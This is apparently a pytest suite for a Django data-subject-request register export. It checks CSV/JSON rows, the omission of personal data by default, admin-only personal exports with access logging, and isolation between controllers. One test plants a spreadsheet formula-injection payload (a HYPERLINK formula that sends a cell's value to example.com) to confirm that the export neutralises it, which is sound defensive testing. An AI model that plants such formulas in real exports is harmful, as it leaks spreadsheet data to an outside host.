"""The register: every request of the range, one row each, no personal data by default."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from dsar.choices import Right, Role, Status
from dsar.models import AccessLog, PurgedCase
from tests.dsar.reports.conftest import closed, d
from tests.factories import api_client_for, officer_of

pytestmark = pytest.mark.django_db

CSV = "/api/v1/reports/register.csv"
JSON = "/api/v1/reports/register.json"
QUARTER = {"controller": "acme", "range": "last_quarter"}

# What the register works out for each case (the stored dates are the case's own):
# clock start, extension reason, paused days, outcome, ground, closed on, on time.
COMPUTED = {
    "A": ("2026-01-05", "", "0", "fulfilled", "", "2026-01-20", "true"),
    "B": ("2026-01-12", "", "2", "fulfilled", "", "2026-02-20", "false"),
    "C": ("2026-02-02", "complex", "0", "fulfilled", "", "2026-03-30", "true"),
    "D": ("2026-02-10", "", "5", "fulfilled", "", "2026-03-10", "true"),
    "E": ("2026-03-02", "", "0", "refused", "manifestly_excessive", "2026-03-05", "true"),
    "F": ("2026-03-03", "", "0", "refused", "identity_not_verified", "2026-03-25", "true"),
    "G": ("2026-03-04", "", "0", "withdrawn", "", "2026-03-06", ""),
    "P": ("2026-03-05", "", "0", "fulfilled", "", "2026-04-01", "true"),  # 23:30 UTC 31 Mar
    "I": ("2026-03-10", "", "0", "", "", "", ""),
    "J": ("2026-03-20", "", "0", "", "", "", ""),  # identity evidence came on 20 March
    "K": ("2026-03-25", "", "15", "", "", "", ""),  # paused 1 April, still open on the 15th
    "N": ("2026-03-31", "other", "0", "", "", "", ""),
}


@pytest.fixture
def register_cases(known_cases, controller, other_controller):
    known_cases["J"].identity_received_on = d("2026-03-20")
    known_cases["J"].save(update_fields=["identity_received_on"])
    PurgedCase.objects.create(
        controller=controller,
        reference="DSAR-2025-000777",
        right=Right.ACCESS,
        status=Status.CLOSED,
        received_on=d("2026-02-05"),
        closed_at=closed("2026-03-01"),
    )
    PurgedCase.objects.create(
        controller=other_controller,
        reference="DSAR-2025-000778",
        right=Right.ACCESS,
        status=Status.CLOSED,
        received_on=d("2026-02-05"),
        closed_at=closed("2026-03-01"),
    )
    return known_cases


def read(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


def expected_row(case, computed) -> list[str]:
    start, reason, paused, outcome, ground, closed_on, on_time = computed
    return [
        case.reference,
        case.controller.slug,
        case.right,
        case.channel,
        case.status,
        case.received_on.isoformat(),
        start,
        case.original_due_date.isoformat(),
        case.due_date.isoformat(),
        "true" if case.extended else "false",
        reason,
        paused,
        outcome,
        ground,
        closed_on,
        on_time,
        "false",
    ]


def test_the_csv_has_every_request_of_the_range_exactly(officer, register_cases):
    response = api_client_for(officer).get(CSV, QUARTER)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "register-acme-2026-01-01-2026-03-31.csv" in response["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(read(response))))
    assert header == [
        "reference", "controller", "right", "channel", "status", "received_on",
        "clock_started_on", "original_due_date", "due_date", "extended", "extension_reason",
        "paused_days", "outcome", "refusal_ground", "closed_on", "on_time", "purged",
    ]  # fmt: skip
    purged = ["DSAR-2025-000777", "acme", "access", "", "closed", "2026-02-05"]
    purged += ["", "", "", "", "", "", "", "", "2026-03-01", "", "true"]
    assert rows == [
        expected_row(register_cases[letter], computed) for letter, computed in COMPUTED.items()
    ] + [purged]


def test_the_json_has_the_same_rows(officer, register_cases):
    csv_rows = list(csv.DictReader(io.StringIO(read(api_client_for(officer).get(CSV, QUARTER)))))

    response = api_client_for(officer).get(JSON, QUARTER)

    body = json.loads(read(response))
    assert (body["controllers"], body["from"], body["to"]) == (["acme"], "2026-01-01", "2026-03-31")
    assert body["personal"] is False
    assert len(body["cases"]) == len(csv_rows) == 13

    def as_text(value):
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        return str(value)

    assert [{k: as_text(v) for k, v in row.items()} for row in body["cases"]] == csv_rows


def test_no_personal_data_by_default(officer, register_cases):
    for url in (CSV, JSON):
        text = read(api_client_for(officer).get(url, QUARTER))

        for case in register_cases.values():
            assert case.requester_name not in text
            assert case.requester_email not in text
        assert "Complex: twelve systems" not in text  # the reason's words, not its category
        assert "requester_name" not in text


def test_another_controllers_cases_are_never_in_it(officer, register_cases):
    text = read(api_client_for(officer).get(CSV, {"range": "last_quarter"}))

    for letter in "XYZ":
        assert register_cases[letter].reference not in text
    assert "DSAR-2025-000778" not in text


def test_the_personal_version_is_for_admins_and_is_logged(controller, officer, register_cases):
    admin = officer_of(controller, role=Role.ADMIN, username="ada-admin")
    personal = {**QUARTER, "personal": "true"}

    refused = api_client_for(officer).get(CSV, personal)
    response = api_client_for(admin).get(CSV, personal)

    assert refused.status_code == 403
    assert "Only a controller's admins" in refused.json()["detail"]
    assert not AccessLog.objects.filter(user=officer, kind="register_personal").exists()
    text = read(response)
    assert register_cases["A"].requester_name in text
    assert register_cases["A"].requester_email in text
    assert "Complex: twelve systems." in text
    assert "-personal.csv" in response["Content-Disposition"]
    log = AccessLog.objects.get(user=admin, kind="register_personal")
    assert (log.controller, log.what) == (controller, "Register 2026-01-01 to 2026-03-31 (CSV)")


def test_an_auditor_may_download_the_register_without_personal_data(auditor, register_cases):
    client = api_client_for(auditor)

    assert client.get(CSV, QUARTER).status_code == 200
    assert client.get(JSON, {**QUARTER, "personal": "true"}).status_code == 403


def test_a_formula_in_a_personal_cell_is_neutralised(controller, register_cases):
    admin = officer_of(controller, role=Role.ADMIN, username="ada-admin")
    case = register_cases["A"]
    case.requester_name = '=HYPERLINK("http://example.com/?"&A1,"x")'
    case.save()

    rows = list(
        csv.DictReader(
            io.StringIO(read(api_client_for(admin).get(CSV, {**QUARTER, "personal": "true"})))
        )
    )

    assert rows[0]["requester_name"] == "'" + case.requester_name


def test_the_register_is_read_in_a_fixed_number_of_queries(
    officer, register_cases, django_assert_max_num_queries
):
    response = api_client_for(officer).get(CSV, QUARTER)

    # The cases in chunks (one query for these 12) and the purged ones: nothing per row.
    with django_assert_max_num_queries(2):
        read(response)


def test_outsiders_and_strangers_get_nothing(outsider, plain_user, register_cases):
    assert api_client_for(outsider).get(CSV, QUARTER).status_code == 400
    assert api_client_for(plain_user).get(CSV, QUARTER).status_code == 403
    assert api_client_for().get(CSV, QUARTER).status_code == 401


def test_the_reports_page_offers_the_register(officer_client, register_cases):
    page = officer_client.get("/reports/", {"range": "last_quarter"}).content.decode()

    assert "/api/v1/reports/register.csv?range=last_quarter" in page
    assert "/api/v1/reports/register.json?range=last_quarter" in page
    assert "personal=true" not in page  # an officer is not an admin


def test_an_admin_is_offered_the_personal_register_on_the_page(client, controller, register_cases):
    client.force_login(officer_of(controller, role=Role.ADMIN, username="ada-admin"))

    page = client.get("/reports/", {"range": "last_quarter"}).content.decode()

    assert "/api/v1/reports/register.csv?range=last_quarter&amp;personal=true" in page
